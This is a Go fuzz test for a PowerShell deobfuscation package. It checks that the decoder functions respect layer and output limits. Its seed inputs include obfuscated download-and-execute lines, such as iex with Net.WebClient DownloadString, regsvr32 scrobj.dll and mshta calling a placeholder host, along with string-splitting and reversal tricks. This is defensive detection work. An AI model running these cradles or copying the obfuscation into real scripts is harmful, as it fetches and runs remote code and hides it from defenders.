package psdecode

import (
	"strings"
	"testing"
)

// FuzzDecode: Deobfuscate, Invocations and EncodedCommand never panic and keep
// their limits.
func FuzzDecode(f *testing.F) {
	for _, s := range []string{
		`('{1}{0}' -f 'x','i')`, `[char]73+[char](70-1)`, `$env:ComSpec[4,15,25]-join''`,
		`[Convert]::FromBase64String('H4sIAAAAAAAA/8tIzcnJBwCGphA2BQAAAA==')`,
		`'73z69z88z32z40z78z101z119'-split'z'`, "Get-C`ommand", `('ab').Replace('a','b')`,
		`$x='))(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN(';iex $x[-1..-99]`,
		"iex (\"(New-Object Net.Web\"+\"Client).Download\"+\"String(`\"http://x/a`\")\")",
		"$c = @'\n(New-Object Net.WebClient).DownloadString('http://x/a')\n'@\niex $c",
		"$f = @\"\n{1}{0} $(Get-Date) `u{41}\n\"@ -f 'a','b'", `"$("a$(1)")" + "${x}"`,
		`[string]::Join('', @('Do','wnl')) + [String]::Concat('a','b')`,
		`'loadStr'.Insert(0,'Down').Insert(11,'ing').Substring(1).Remove(0,1)`,
		`$a='Down';$b="load$a";sv c 'x';$w.($a+$b+(gv c).Value);${a}`,
		`('D-o-w-n' -split '-') -join '' + -join 'a|b'.Split('|') + ('abc'[2..0]) -join ''`,
		`$r='abc';-join $r[-1..-($r.Length)]`, "(\"{0}|%{{{1}}}\" -f 'a',('b'))", "<# c #> # c\n$a = 'x' # c",
		"regsvr32 /s /i:\"http://x/a\" scrobj.dll `\n /u 2>&1 > $null; $o = cmd /c 'a' | x",
		"& \"$env:windir\\x.exe\" a,b $(c) @{d=1} [e]; . .\\y.ps1 z",
		"Start-Process -FilePath:cmd -Args '/c','x' -Wait; saps mshta 'http://x'",
		"Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='a b'}",
		`[Diagnostics.Process]::Start('a','b'); (New-Object -ComObject WScript.Shell).Run('c d'); iex 'iex ''iex x y'''`,
	} {
		f.Add(s)
	}
	lim := Limits{MaxLayers: 8, MaxInput: 4 << 10, MaxOutput: 16 << 10, MaxBase64: 8 << 10}
	f.Fuzz(func(t *testing.T, s string) {
		r := Deobfuscate(s, lim)
		if len(r.Layers) > lim.MaxLayers {
			t.Fatalf("%d layers > %d", len(r.Layers), lim.MaxLayers)
		}
		for _, l := range r.Layers {
			if len(l.Text) > lim.MaxOutput {
				t.Fatalf("layer %s: %d bytes > %d", l.Kind, len(l.Text), lim.MaxOutput)
			}
		}
		inv := Invocations(s, 4, func(string) bool { return true })
		if len(inv) > 4 {
			t.Fatalf("%d invocations > 4", len(inv))
		}
		for _, i := range inv {
			if len(i.CommandLine) > maxCommandLine {
				t.Fatalf("command line %d bytes > %d", len(i.CommandLine), maxCommandLine)
			}
		}
		if out, err := EncodedCommand(strings.TrimSpace(s), lim); err == nil && len(out) > lim.MaxOutput {
			t.Fatalf("encoded command output %d bytes > %d", len(out), lim.MaxOutput)
		}
	})
}
